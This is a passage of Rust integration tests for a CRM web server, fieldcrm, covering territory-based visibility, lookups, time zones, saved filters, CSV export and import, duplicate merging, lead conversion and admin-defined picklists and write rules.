            ("related_to", &deal),
            ("territory", "north"),
        ],
    )
    .await;
    let link = |id: &str, name: &str| format!("<a href=\"/r/{id}\">{name}</a>");

    let contact = fx.get(&olivia, &format!("/r/{ada}")).await;
    let field = between(&contact.body, "data-field=\"account_id\">", "</dd>");
    assert_eq!(field, link(&acme, "Acme"));
    assert!(
        !contact.body.contains(&format!(">{acme}<")),
        "no bare id shown"
    );
    for (list, column) in [
        ("/contacts", "Acme"),
        ("/deals", "Acme"),
        ("/activities", "Renewal"),
    ] {
        let page = fx.get(&olivia, list).await;
        let table = between(&page.body, "<tbody>", "</tbody>");
        assert!(table.contains(&format!(">{column}</a>")), "{list}: {table}");
    }
    // History and conflicts show names on both sides of a change.
    let moved = fx
        .post(&olivia, &format!("/r/{deal}"), &[("account_id", &beta)])
        .await;
    assert_eq!(moved.status, StatusCode::SEE_OTHER, "{}", moved.body);
    let page = fx.get(&olivia, &format!("/r/{deal}")).await;
    let history = between(&page.body, "<table class=\"history\">", "</table>");
    assert!(
        history.contains(&link(&acme, "Acme")) && history.contains(&link(&beta, "Beta &amp; Co")),
        "{history}"
    );
    // The export carries the name beside the id.
    let export = fx.get(&olivia, "/contacts/export.csv").await;
    let body = export.body.strip_prefix('\u{feff}').unwrap();
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| row[header.iter().position(|h| h == name).unwrap()].to_string();
    assert_eq!(
        (cell("account_id"), cell("account_name")),
        (acme.clone(), "Acme".into())
    );

    // A reference into a territory the reader cannot see is not named.
    let far = fx
        .create(
            &olivia,
            "contacts",
            &[
                ("first_name", "Sid"),
                ("last_name", "South"),
                ("account_id", &acme),
                ("territory", "south"),
            ],
        )
        .await;
    let sam = fx.sign_in("sam").await;
    let page = fx.get(&sam, &format!("/r/{far}")).await;
    assert_eq!(page.status, StatusCode::OK);
    let field = between(&page.body, "data-field=\"account_id\">", "</dd>");
    assert!(
        field.contains("(not visible to you)") && !field.contains("Acme"),
        "{field}"
    );
}

#[tokio::test]
async fn pickers_suggest_visible_records_and_typed_names_are_resolved_on_save() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let acme = fx
        .create(
            &olivia,
            "accounts",
            &[
                ("name", "Acme Shipping"),
                ("territory", "south"),
                ("address.city", "Leeds"),
            ],
        )
        .await;
    fx.account(&olivia, "Twin", "north").await;
    fx.account(&olivia, "twin", "north").await;
    let fx_ref = &fx;
    let lookup = |browser: &Browser, query: &str| {
        let path = format!("/lookup?{query}");
        let cookie = browser.cookie.clone();
        async move {
            let answer = fx_ref
                .send(
                    Request::get(path)
                        .header(header::COOKIE, cookie)
                        .body(Body::empty())
                        .unwrap(),
                )
                .await;
            (
                answer.status,
                serde_json::from_str::<serde_json::Value>(&answer.body).unwrap_or_default(),
            )
        }
    };
    let (status, found) = lookup(&olivia, "kind=account&q=acm").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(found[0]["id"], acme.as_str());
    assert_eq!(found[0]["name"], "Acme Shipping");
    assert_eq!(found[0]["detail"], "account · Leeds");
    assert_eq!(found[0]["territory"], "south");
    // A rep is offered only what the rep may see, and owners who share a territory.
    let ann = fx.sign_in("ann").await;
    let (_, found) = lookup(&ann, "kind=account&q=acm").await;
    assert_eq!(found, serde_json::json!([]));
    let (_, owners) = lookup(&ann, "kind=user&q=").await;
    let ids: Vec<&str> = owners
        .as_array()
        .unwrap()
        .iter()
        .map(|u| u["id"].as_str().unwrap())
        .collect();
    assert_eq!(
        ids,
        ["ann", "maria", "olivia", "root"],
        "sam works in south only"
    );
    let (status, _) = lookup(&ann, "kind=planet&q=x").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);

    // Typed without choosing: the name is looked up, and the territory
    // comes from the account.
    let created = fx
        .post(
            &olivia,
            "/contacts",
            &[
                ("first_name", "Ada"),
                ("last_name", "L"),
                ("account_id", ""),
                ("account_id.name", " acme shipping "),
                ("territory", ""),
            ],
        )
        .await;
    assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);
    let id = created.location.strip_prefix("/r/").unwrap();
    let contact = fx.relay.record(id).unwrap().unwrap().record;
    assert_eq!(contact.text("account_id"), Some(acme.as_str()));
    assert_eq!(contact.text("territory"), Some("south"));
    // A name that finds nothing, or two records, is said next to the field.
    for (typed, says) in [
        ("Nobody Ltd", "You have no account named “Nobody Ltd”"),
        ("TWIN", "2 accounts are named “TWIN”"),
    ] {
        let refused = fx
            .post(
                &olivia,
                "/contacts",
                &[
                    ("first_name", "Bo"),
                    ("account_id", ""),
                    ("account_id.name", typed),
                    ("territory", "north"),
                ],
            )
            .await;
        assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY, "{typed}");
        let message = between(
            &refused.body,
            "id=\"error-account_id\" role=\"alert\">",
            "</span>",
        );
        assert!(message.contains(says), "{message}");
        assert!(
            refused.body.contains(&format!("value=\"{typed}\"")),
            "the typed name stays"
        );
    }
    // The edit form shows the chosen account by name, and the owner picker
    // offers real users.
    let form = fx.get(&olivia, &format!("/r/{id}/edit")).await;
    assert!(
        form.body
            .contains("name=\"account_id.name\" type=\"text\" value=\"Acme Shipping\""),
        "{}",
        form.body
    );
    let owners = between(&form.body, "<datalist id=\"owner-choices\">", "</datalist>");
    assert!(
        owners.contains("value=\"sam\"") && owners.contains("value=\"olivia\""),
        "{owners}"
    );
}

#[tokio::test]
async fn times_show_and_are_typed_in_the_users_time_zone() {
    let fx = fixture();
    let mut olivia = fx.sign_in("olivia").await;
    let acme = fx.account(&olivia, "Acme", "north").await;
    // Without a setting, the browser's zone (the page script's cookie).
    olivia.cookie = format!("{}; fieldcrm_tz=Asia/Tokyo", olivia.cookie);
    let call = fx
        .create(
            &olivia,
            "activities",
            &[
                ("subject", "Call back"),
                ("kind", "call"),
                ("related_to", &acme),
                ("territory", "north"),
                ("due_at", "2026-11-24T10:30"),
            ],
        )
        .await;
    let due = fx.relay.record(&call).unwrap().unwrap().record;
    // 10:30 in Tokyo is 01:30 UTC: records keep UTC.
    assert_eq!(due.get("due_at"), Some(&Value::Int(1_795_483_800_000)));
    let page = fx.get(&olivia, &format!("/r/{call}")).await;
    assert!(page.body.contains("2026-11-24 10:30 JST"), "{}", page.body);
    let form = fx.get(&olivia, &format!("/r/{call}/edit")).await;
    assert!(form.body.contains("value=\"2026-11-24T10:30\""));

    // The user's own setting wins over the browser's.
    let settings = fx.get(&olivia, "/settings").await;
    assert!(settings
        .body
        .contains("<strong class=\"zone\">Asia/Tokyo</strong>"));
    let saved = fx
        .post(&olivia, "/settings", &[("time_zone", "America/New_York")])
        .await;
    assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", saved.body);
    let page = fx.get(&olivia, &format!("/r/{call}")).await;
    assert!(page.body.contains("2026-11-23 20:30 EST"), "{}", page.body);
    let form = fx.get(&olivia, &format!("/r/{call}/edit")).await;
    assert!(form.body.contains("value=\"2026-11-23T20:30\""));
    let bad = fx
        .post(&olivia, "/settings", &[("time_zone", "Mars/Olympus")])
        .await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
    assert!(bad.body.contains("is not a time zone"), "{}", bad.body);
    // Another user without a setting or a cookie reads UTC.
    let maria = fx.sign_in("maria").await;
    let page = fx.get(&maria, &format!("/r/{call}")).await;
    assert!(page.body.contains("2026-11-24 01:30 UTC"), "{}", page.body);
    // Going back to the browser's zone.
    fx.post(&olivia, "/settings", &[("time_zone", "")]).await;
    let page = fx.get(&olivia, &format!("/r/{call}")).await;
    assert!(page.body.contains("2026-11-24 10:30 JST"));
}

#[tokio::test]
async fn saved_filters_belong_to_their_user_and_list() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let saved = fx
        .post(
            &olivia,
            "/deals/filters",
            &[
                ("name", "North leads"),
                ("query", "territory=north&stage=lead&page=3&nonsense=1"),
            ],
        )
        .await;
    assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", saved.body);
    // Kept as list filters only: the page and anything else are dropped.
    assert_eq!(saved.location, "/deals?territory=north&stage=lead");
    let deals = fx.get(&olivia, "/deals").await;
    let chips = between(&deals.body, "<ul class=\"saved-filters\">", "</ul>");
    assert!(
        chips.contains("href=\"/deals?territory=north&amp;stage=lead\">North leads</a>"),
        "{chips}"
    );
    assert!(!fx
        .get(&olivia, "/accounts")
        .await
        .body
        .contains("North leads"));
    let ann = fx.sign_in("ann").await;
    assert!(!fx.get(&ann, "/deals").await.body.contains("North leads"));
    assert!(fx
        .get(&olivia, "/settings")
        .await
        .body
        .contains("North leads"));
    let unnamed = fx
        .post(&olivia, "/deals/filters", &[("name", " "), ("query", "")])
        .await;
    assert_eq!(unnamed.status, StatusCode::BAD_REQUEST);
    assert!(unnamed.body.contains("Give the filter a name."));
    for i in 1..fieldcrm_server::preferences::MAX_FILTERS {
        let name = format!("f{i}");
        let ok = fx
            .post(&olivia, "/deals/filters", &[("name", &name), ("query", "")])
            .await;
        assert_eq!(ok.status, StatusCode::SEE_OTHER);
    }
    let full = fx
        .post(
            &olivia,
            "/deals/filters",
            &[("name", "one more"), ("query", "")],
        )
        .await;
    assert_eq!(full.status, StatusCode::BAD_REQUEST);
    assert!(full.body.contains("delete one first"), "{}", full.body);
    let removed = fx
        .post(&olivia, "/deals/filters/remove", &[("name", "North leads")])
        .await;
    assert_eq!(removed.status, StatusCode::SEE_OTHER);
    assert!(!fx.get(&olivia, "/deals").await.body.contains("North leads"));
}

#[tokio::test]
async fn custom_fields_are_exported_as_columns_and_import_back() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    fx.create(
        &olivia,
        "accounts",
        &[
            ("name", "Acme"),
            ("territory", "north"),
            ("new_custom_name", "tier"),
            ("new_custom_value", "=gold"),
        ],
    )
    .await;
    fx.account(&olivia, "Plain", "north").await;
    let export = fx.get(&olivia, "/accounts/export.csv?sort=name").await;
    let body = export.body.strip_prefix('\u{feff}').unwrap();
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header = reader.headers().unwrap().clone();
    let tier = header
        .iter()
        .position(|h| h == "custom.tier")
        .expect("a custom column");
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(&rows[0][tier], "'=gold", "custom cells are neutralised too");
    assert_eq!(&rows[1][tier], "");

    // The same file imports back with its custom column mapped by itself.
    let renamed = body
        .replace("Acme", "Acme Two")
        .replace("Plain", "Plain Two");
    let preview = fx.import_preview(&olivia, "account", &renamed).await;
    assert_eq!(mapped(&preview.body, tier), "custom.tier");
    let columns: Vec<String> = (0..header.len())
        .map(|i| mapped(&preview.body, i))
        .map(|m| if m == "id" { String::new() } else { m })
        .collect();
    let run = fx
        .import_run(&olivia, "account", &renamed, &columns, &[])
        .await;
    assert!(
        run.body.contains("<strong class=\"imported\">2</strong>"),
        "{}",
        run.body
    );
    let found = fx
        .relay
        .search("Acme Two", Some(Kind::Account), &[], 5)
        .unwrap();
    assert_eq!(found[0].text("custom.tier"), Some("=gold"));
}

#[tokio::test]
async fn wrong_device_clocks_merge_by_causality_and_history_shows_when_the_relay_got_each_change() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let id = fx.account(&olivia, "Acme", "north").await;
    let real_now = || {
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_millis() as i64
    };
    let device_with_clock = |user: &str, off_ms: i64| {
        let options = fieldcrm_core::StoreOptions {
            clock: Arc::new(move || real_now() + off_ms),
            ..Default::default()
        };
        Store::open_with(fx.dir.join(format!("{user}-clock.db")), user, options).unwrap()
    };
    const HOUR: i64 = 3_600_000;
    let mut ahead = device_with_clock("ann", 3 * HOUR);
    let mut behind = device_with_clock("maria", -2 * 365 * 24 * HOUR);
    fx.sync(&mut ahead).await;
    fx.sync(&mut behind).await;
    ahead
        .update(&id, fields([("phone", "+44 111 111")]))
        .unwrap();
    fx.sync(&mut ahead).await;
    fx.sync(&mut behind).await;
    // Made after seeing ann's edit, though stamped two years before it.
    behind
        .update(&id, fields([("phone", "+44 222 222")]))
        .unwrap();
    fx.sync(&mut behind).await;
    fx.sync(&mut ahead).await;
    let relay = fx.relay.record(&id).unwrap().unwrap().record;
    assert_eq!(
        relay.text("phone"),
        Some("+44 222 222"),
        "the later edit wins, whatever its clock said"
    );
    assert_eq!(ahead.get(&id).unwrap(), relay);
    assert_eq!(behind.get(&id).unwrap(), relay);
    let page = fx.get(&olivia, &format!("/r/{id}")).await;
    let history = between(&page.body, "id=\"history-h\"", "</section>");
    assert!(
        history.contains("(the device's clock was 3.0 hours ahead)"),
        "{history}"
    );
    assert!(
        history.contains("(the device's clock was 2.0 years behind)"),
        "{history}"
    );
    // The office's own edit, stamped by the relay's clock, shows one time.
    assert_eq!(history.matches("received ").count(), 2, "{history}");
}

#[tokio::test]
async fn leads_and_cases_have_lists_forms_and_filters_and_cases_show_on_the_dashboard() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let lead = fx
        .create(
            &olivia,
            "leads",
            &[
                ("name", "Ada Lovelace"),
                ("company", "Analytical Engines"),
                ("source", "event"),
                ("territory", "north"),
            ],
        )
        .await;
    let leads = fx.get(&olivia, "/leads").await;
    assert_eq!(leads.status, StatusCode::OK);
    assert!(leads.body.contains("Ada Lovelace") && leads.body.contains("Analytical Engines"));
    assert!(leads.body.contains("aria-label=\"Status\""));
    let page = fx.get(&olivia, &format!("/r/{lead}")).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.body.contains("new"), "a lead starts new");
    let refused = fx
        .post(
            &olivia,
            "/leads",
            &[("name", "Bad"), ("status", "hot"), ("territory", "north")],
        )
        .await;
    assert_eq!(
        refused.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        refused.body
    );
    assert!(refused.body.contains("Choose one of new, working"));

    let case = |subject: &'static str, priority: &'static str, resolve_by: &'static str| {
        [
            ("subject", subject),
            ("priority", priority),
            ("resolve_by", resolve_by),
            ("territory", "north"),
        ]
    };
    let pump = fx
        .create(
            &olivia,
            "cases",
            &case("Pump broken", "high", "2020-01-01 10:00"),
        )
        .await;
    fx.create(&olivia, "cases", &case("Valve squeaks", "low", ""))
        .await;
    let solved = fx
        .create(
            &olivia,
            "cases",
            &case("Door stuck", "high", "2020-01-02 10:00"),
        )
        .await;
    let done = fx
        .post(&olivia, &format!("/r/{solved}"), &[("status", "resolved")])
        .await;
    assert_eq!(done.status, StatusCode::SEE_OTHER, "{}", done.body);
    let names = |body: &str| {
        ["Pump broken", "Valve squeaks", "Door stuck"]
            .into_iter()
            .filter(|n| body.contains(n))
            .collect::<Vec<_>>()
    };
    let high = fx.get(&olivia, "/cases?priority=high").await;
    assert_eq!(names(&high.body), ["Pump broken", "Door stuck"]);
    let overdue = fx.get(&olivia, "/cases?due=overdue").await;
    assert_eq!(names(&overdue.body), ["Pump broken"]);
    let resolved = fx.get(&olivia, "/cases?stage=resolved").await;
    assert_eq!(names(&resolved.body), ["Door stuck"]);

    let dashboard = fx.get(&olivia, "/dashboard").await;
    let row = |p: &str| {
        between(
            &dashboard.body,
            &format!("<tr data-priority=\"{p}\">"),
            "</tr>",
        )
        .to_string()
    };
    assert!(
        row("high").contains("<td class=\"num\">1</td>"),
        "{}",
        row("high")
    );
    assert!(row("low").contains("<td class=\"num\">1</td>"));
    assert!(row("urgent").contains("<td class=\"num\">0</td>"));
    assert!(dashboard
        .body
        .contains("<span class=\"overdue-cases\">1</span>"));
    assert!(dashboard.body.contains(&format!("href=\"/r/{pump}\"")));
}

#[tokio::test]
async fn a_contact_two_reps_made_offline_shows_as_a_possible_duplicate() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let acme = fx.account(&olivia, "Acme", "north").await;
    fx.account(&olivia, "ACME Ltd", "north").await;
    fx.account(&olivia, "Acme", "south").await;
    let mut ann = fx.device("ann");
    let mut maria = fx.device("maria");
    fx.sync(&mut ann).await;
    fx.sync(&mut maria).await;
    let contact = |email: &str| {
        fieldcrm_core::fields([
            ("first_name", "Ada"),
            ("last_name", "Lovelace"),
            ("email", email),
            ("account_id", acme.as_str()),
            ("territory", "north"),
        ])
    };
    // Both offline, then both sync: the second is the duplicate.
    let first = ann
        .create(Kind::Contact, contact("ada@engines.example"))
        .unwrap();
    let second = maria
        .create(Kind::Contact, contact("ADA+crm@engines.example"))
        .unwrap();
    fx.sync(&mut ann).await;
    fx.sync(&mut maria).await;

    let list = fx.get(&olivia, "/contacts").await;
    assert!(list.body.contains("href=\"/contacts/duplicates\""));
    let page = fx.get(&olivia, "/contacts/duplicates").await;
    assert_eq!(page.status, StatusCode::OK);
    let row = between(&page.body, "<tbody>", "</tbody>");
    assert!(
        row.contains(&format!("/r/{}", first.id)) && row.contains(&format!("/r/{}", second.id))
    );
    assert!(
        row.contains("same email; similar names (100% alike) at the same account"),
        "{row}"
    );
    // Accounts: the same name in the same city is alike; in another
    // territory's city-less copy too (no city to tell them apart).
    let accounts = fx.get(&olivia, "/accounts/duplicates").await;
    assert!(
        accounts.body.contains("similar names (100% alike)"),
        "{}",
        accounts.body
    );
    // A rep sees only the pairs in their territories.
    let ann_browser = fx.sign_in("ann").await;
    let theirs = fx.get(&ann_browser, "/accounts/duplicates").await;
    assert_eq!(
        theirs.body.matches("<tr>").count(),
        2,
        "one header row and one pair"
    );
    let deals = fx.get(&olivia, "/deals/duplicates").await;
    assert_eq!(deals.status, StatusCode::NOT_FOUND);
    assert!(!theirs.body.contains("Merge…"), "reps do not merge");

    // The office merges the pair from the list: both records side by
    // side, a tick box per field the duplicate could give.
    let merge_link = format!("/r/{}/merge?with={}", first.id, second.id);
    assert!(row.contains(&merge_link.replace('&', "&amp;")), "{row}");
    let compare = fx.get(&olivia, &merge_link).await;
    assert_eq!(compare.status, StatusCode::OK);
    assert!(
        compare.body.contains("name=\"take\" value=\"email\""),
        "{}",
        compare.body
    );
    let forbidden = fx.get(&ann_browser, &merge_link).await;
    assert_eq!(forbidden.status, StatusCode::FORBIDDEN);
    let merged = fx
        .post(
            &olivia,
            &format!("/r/{}/merge", first.id),
            &[("duplicate", &second.id), ("take", "email")],
        )
        .await;
    assert_eq!(merged.status, StatusCode::SEE_OTHER, "{}", merged.body);
    let kept = fx.get(&olivia, &format!("/r/{}", first.id)).await;
    assert!(
        kept.body.contains("Merged from:") && kept.body.contains("ADA+crm@engines.example"),
        "{}",
        kept.body
    );
    let gone = fx.get(&olivia, &format!("/r/{}", second.id)).await;
    assert!(
        gone.body.contains("was merged into") && gone.body.contains("Undo merge"),
        "{}",
        gone.body
    );
    let after = fx.get(&olivia, "/contacts/duplicates").await;
    assert!(!after.body.contains(&second.id), "the pair is gone");
    // Merging it again, the other way round: refused in words.
    let again = fx
        .post(
            &olivia,
            &format!("/r/{}/merge", second.id),
            &[("duplicate", &first.id)],
        )
        .await;
    assert_eq!(again.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(again.body.contains("was merged into"), "{}", again.body);
    // Undone: both are back, the kept one with its own email.
    let undone = fx
        .post(&olivia, &format!("/r/{}/unmerge", second.id), &[])
        .await;
    assert_eq!(undone.status, StatusCode::SEE_OTHER, "{}", undone.body);
    let kept = fx.get(&olivia, &format!("/r/{}", first.id)).await;
    assert!(kept.body.contains("ada@engines.example") && !kept.body.contains("Merged from:"));
    let back = fx.get(&olivia, "/contacts/duplicates").await;
    assert!(back.body.contains(&second.id), "a pair again");
}

#[tokio::test]
async fn admins_arrange_territories_in_a_tree_and_a_region_manager_sees_its_areas() {
    let fx = fixture();
    let root = fx.sign_in("root").await;
    let olivia = fx.sign_in("olivia").await;
    fx.account(&olivia, "Northern Mills", "north").await;
    fx.account(&olivia, "Southern Docks", "south").await;
    for (path, pairs) in [
        ("/admin/territories", vec![("name", "uk")]),
        ("/admin/territories/north/parent", vec![("parent", "uk")]),
        (
            "/admin/users",
            vec![
                ("name", "rita"),
                ("role", "manager"),
                ("territory", "uk"),
                ("password", "password1"),
            ],
        ),
    ] {
        let done = fx.post(&root, path, &pairs).await;
        assert_eq!(done.status, StatusCode::SEE_OTHER, "{path}: {}", done.body);
    }
    let admin = fx.get(&root, "/admin").await;
    let north_row = between(&admin.body, "<td>north</td>", "</tr>");
    assert!(
        north_row.contains("<option value=\"uk\" selected>"),
        "{north_row}"
    );
    // A territory cannot go under its own.
    let cycle = fx
        .post(
            &root,
            "/admin/territories/uk/parent",
            &[("parent", "north")],
        )
        .await;
    assert_eq!(cycle.status, StatusCode::BAD_REQUEST, "{}", cycle.body);
    assert!(cycle.body.contains("cannot go under"));

    let rita = fx.sign_in("rita").await;
    let seen = fx.get(&rita, "/accounts").await;
    assert!(seen.body.contains("Northern Mills") && !seen.body.contains("Southern Docks"));
    let moved = fx
        .post(
            &root,
            "/admin/territories/south/parent",
            &[("parent", "uk")],
        )
        .await;
    assert_eq!(moved.status, StatusCode::SEE_OTHER);
    let seen = fx.get(&rita, "/accounts").await;
    assert!(
        seen.body.contains("Southern Docks"),
        "moving south under uk shows it at once"
    );
}

#[tokio::test]
async fn the_office_converts_a_lead_in_one_step_and_nothing_when_refused() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    let lead = fx
        .create(
            &olivia,
            "leads",
            &[
                ("name", "Grace Hopper"),
                ("company", "Compiler Works"),
                ("email", "grace@compiler.example"),
                ("territory", "north"),
            ],
        )
        .await;
    let call = fx
        .create(
            &olivia,
            "activities",
            &[
                ("kind", "call"),
                ("subject", "Intro call"),
                ("related_to", lead.as_str()),
                ("territory", "north"),
            ],
        )
        .await;
    let page = fx.get(&olivia, &format!("/r/{lead}")).await;
    assert!(page.body.contains(&format!("action=\"/r/{lead}/convert\"")));

    let unknown = fx
        .post(
            &olivia,
            &format!("/r/{lead}/convert"),
            &[
                ("account_id", ""),
                ("account_id.name", "Nobody Ltd"),
                ("deal_name", ""),
            ],
        )
        .await;
    assert_eq!(unknown.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(unknown
        .body
        .contains("You have no account named “Nobody Ltd”"));

    let done = fx
        .post(
            &olivia,
            &format!("/r/{lead}/convert"),
            &[
                ("account_id", ""),
                ("account_id.name", ""),
                ("deal_name", "Compilers for all"),
            ],
        )
        .await;
    assert_eq!(done.status, StatusCode::SEE_OTHER, "{}", done.body);
    let contact = done.location.strip_prefix("/r/").unwrap().to_string();
    let contact_page = fx.get(&olivia, &done.location).await;
    assert!(contact_page.body.contains("Grace") && contact_page.body.contains("Compiler Works"));
    assert!(
        contact_page.body.contains("Intro call"),
        "the call moved to the contact"
    );
    let lead_page = fx.get(&olivia, &format!("/r/{lead}")).await;
    assert!(lead_page.body.contains("converted"));
    assert!(
        !lead_page.body.contains("/convert\""),
        "no second conversion offered"
    );
    assert!(
        lead_page.body.contains("Compilers for all"),
        "the deal it became"
    );
    let call_page = fx.get(&olivia, &format!("/r/{call}")).await;
    assert!(call_page.body.contains(&format!("href=\"/r/{contact}\"")));

    let again = fx
        .post(&olivia, &format!("/r/{lead}/convert"), &[("deal_name", "")])
        .await;
    assert_eq!(again.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(again.body.contains("converted already"));
    let accounts = fx.get(&olivia, "/accounts?q=Compiler").await;
    assert_eq!(
        accounts.body.matches("Compiler Works</a>").count(),
        1,
        "one account, made once"
    );
}

#[tokio::test]
async fn admins_define_a_picklist_field_that_forms_lists_and_exports_follow() {
    let fx = fixture();
    let root = fx.sign_in("root").await;
    let olivia = fx.sign_in("olivia").await;
    let page = fx.get(&olivia, "/admin/configuration").await;
    assert_eq!(page.status, StatusCode::OK, "the office may look");
    assert!(page.body.contains("Deal pipeline") && !page.body.contains("Add field"));
    // Only admins change it: the office's attempt is refused with the rule.
    let refused = fx
        .post(
            &olivia,
            "/admin/configuration",
            &[("action", "add_value"), ("list", "tier"), ("value", "gold")],
        )
        .await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(refused.body.contains("only admins"), "{}", refused.body);
    // A picklist field before its picklist: said in the admin's words.
    let early = fx
        .post(
            &root,
            "/admin/configuration",
            &[
                ("action", "add_field"),
                ("kind", "account"),
                ("name", "tier"),
                ("label", "Tier"),
                ("type", "picklist"),
                ("picklist", "tier"),
            ],
        )
        .await;
    assert_eq!(early.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        early.body.contains("add its values first"),
        "{}",
        early.body
    );
    for (value, label) in [("gold", "Gold"), ("silver", "Silver")] {
        let added = fx
            .post(
                &root,
                "/admin/configuration",
                &[
                    ("action", "add_value"),
                    ("list", "tier"),
                    ("value", value),
                    ("label", label),
                ],
            )
            .await;
        assert_eq!(added.status, StatusCode::SEE_OTHER, "{}", added.body);
    }
    let field = fx
        .post(
            &root,
            "/admin/configuration",
            &[
                ("action", "add_field"),
                ("kind", "account"),
                ("name", "Tier"),
                ("label", "Tier"),
                ("type", "picklist"),
                ("picklist", "tier"),
            ],
        )
        .await;
    assert_eq!(field.status, StatusCode::SEE_OTHER, "{}", field.body);
    let page = fx.get(&root, "/admin/configuration").await;
    assert!(page.body.contains("custom.tier"), "{}", page.body);
    // The configuration's own record page: its entries and their history.
    let record = fx.get(&root, "/r/configuration").await;
    assert_eq!(record.status, StatusCode::OK);
    assert!(
        record.body.contains("picklists.tier:gold"),
        "{}",
        record.body
    );

    // The new-account form offers the picklist; a wrong value is refused.
    let form = fx.get(&olivia, "/accounts/new").await;
    assert!(
        form.body.contains("name=\"custom.tier\"") && form.body.contains(">Silver<"),
        "{}",
        form.body
    );
    let bad = fx
        .post(
            &olivia,
            "/accounts",
            &[
                ("name", "Acme"),
                ("territory", "north"),
                ("custom.tier", "platinum"),
            ],
        )
        .await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", bad.body);
    assert!(bad.body.contains("platinum"), "{}", bad.body);
    for (name, tier) in [("Acme", "gold"), ("Beta", "silver")] {
        let made = fx
            .post(
                &olivia,
                "/accounts",
                &[
                    ("name", name),
                    ("territory", "north"),
                    ("custom.tier", tier),
                ],
            )
            .await;
        assert_eq!(made.status, StatusCode::SEE_OTHER, "{}", made.body);
    }
    // The record page shows the field by its label and the value by its.
    let omega = fx
        .create(
            &olivia,
            "accounts",
            &[
                ("name", "Omega"),
                ("territory", "south"),
                ("custom.tier", "silver"),
            ],
        )
        .await;
    let shown = fx.get(&olivia, &format!("/r/{omega}")).await;
    assert!(
        shown
            .body
            .contains("<dt>Tier</dt><dd data-field=\"custom.tier\">Silver</dd>"),
        "{}",
        shown.body
    );
    // The list filters by it, and the export follows the filter.
    let list = fx.get(&olivia, "/accounts?custom.tier=gold").await;
    assert!(
        list.body.contains(">Acme<") && !list.body.contains(">Beta<"),
        "{}",
        list.body
    );
    assert!(list.body.contains("Any tier"), "the filter is on the list");
    let csv = fx
        .get(&olivia, "/accounts/export.csv?custom.tier=gold")
        .await;
    assert_eq!(csv.status, StatusCode::OK);
    assert!(csv.body.contains("custom.tier"), "{}", csv.body);
    assert!(
        csv.body.contains("Acme") && !csv.body.contains("Beta"),
        "{}",
        csv.body
    );

    // CSV import: a column named as the field's label fills it, checked by it.
    let csv = "Name,Tier,Territory\nGamma,gold,north\nDelta,platinum,north\n";
    let preview = fx.import_preview(&olivia, "account", csv).await;
    assert_eq!(preview.status, StatusCode::OK, "{}", preview.body);
    assert_eq!(mapped(&preview.body, 1), "custom.tier");
    let fields: Vec<String> = (0..3).map(|i| mapped(&preview.body, i)).collect();
    let run = fx.import_run(&olivia, "account", csv, &fields, &[]).await;
    assert!(
        run.body.contains("<strong class=\"imported\">1</strong>"),
        "{}",
        run.body
    );
    let rejected = between(&run.body, "<table class=\"rejected\">", "</table>");
    assert!(
        rejected.contains("<td>3</td>") && rejected.contains("platinum"),
        "{rejected}"
    );

    // Retired: no longer offered, the record that holds it keeps it.
    let retired = fx
        .post(
            &root,
            "/admin/configuration",
            &[
                ("action", "retire_value"),
                ("key", "tier:silver"),
                ("retired", "true"),
            ],
        )
        .await;
    assert_eq!(retired.status, StatusCode::SEE_OTHER, "{}", retired.body);
    let form = fx.get(&olivia, "/accounts/new").await;
    assert!(
        !form.body.contains(">Silver<"),
        "retired values are not offered"
    );

    // A write rule: added by an admin on the page, in force for a rep.
    let rule = [
        ("action", "add_rule"),
        ("kind", "account"),
        ("name", "owner_by_managers"),
        ("fields", "owner"),
        ("at_least", "manager"),
        ("reason", "only managers change an account's owner"),
    ];
    let refused = fx.post(&olivia, "/admin/configuration", &rule).await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    let added = fx.post(&root, "/admin/configuration", &rule).await;
    assert_eq!(added.status, StatusCode::SEE_OTHER, "{}", added.body);
    let page = fx.get(&olivia, "/admin/configuration").await;
    assert!(
        page.body.contains("owner_by_managers") && page.body.contains("managers and above"),
        "{}",
        page.body
    );
    let ann = fx.sign_in("ann").await;
    let acme = fx
        .create(
            &olivia,
            "accounts",
            &[("name", "Ruled"), ("territory", "north")],
        )
        .await;
    let moved = fx
        .post(
            &ann,
            &format!("/r/{acme}"),
            &[("name", "Ruled"), ("owner", "sam"), ("territory", "north")],
        )
        .await;
    assert_eq!(
        moved.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        moved.body
    );
    assert!(
        moved.body.contains("only managers change an account"),
        "{}",
        moved.body
    );
}

#[tokio::test]
async fn csv_import_warns_of_rows_that_look_like_records_or_earlier_rows() {
    let fx = fixture();
    let olivia = fx.sign_in("olivia").await;
    fx.create(
        &olivia,
        "accounts",
        &[
            ("name", "Acme GmbH"),
            ("territory", "north"),
            ("address.city", "Berlin"),
        ],
    )
    .await;
